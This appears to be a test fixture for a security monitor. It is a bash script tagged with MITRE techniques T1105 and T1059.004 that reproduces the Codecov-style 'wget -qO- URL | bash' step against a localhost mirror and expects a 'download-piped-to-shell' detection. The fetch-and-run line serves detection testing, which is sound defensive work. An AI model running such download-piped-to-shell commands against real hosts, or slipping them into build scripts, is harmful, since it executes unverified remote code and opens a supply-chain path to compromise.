#!/bin/bash
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: Codecov bash uploader (2021): CI jobs ran a script fetched from the network on every build; `wget -qO- URL | bash` is the same step on images that ship wget but not curl
# expect: download-piped-to-shell ^bash$
# exec-borne: yes
#
# A toolchain bootstrap in a build script: wget writes the installer to
# stdout and bash reads it from the pipe.
set -euo pipefail

command -v wget >/dev/null 2>&1 || { echo "wget not installed" >&2; exit 77; }

MIRROR="http://127.0.0.1:${BW_ATTACK_PORT:?}"
PREFIX="${BW_ATTACK_TMP:?}/toolchain"

bootstrap_toolchain() {
	local url="$MIRROR/install.sh"
	echo "==> bootstrapping toolchain from $url into $PREFIX"
	wget -qO- --timeout=10 --tries=2 "$url" | bash -s -- --prefix "$PREFIX"
}

bootstrap_toolchain
rm -rf "$PREFIX"
echo "==> toolchain ready"
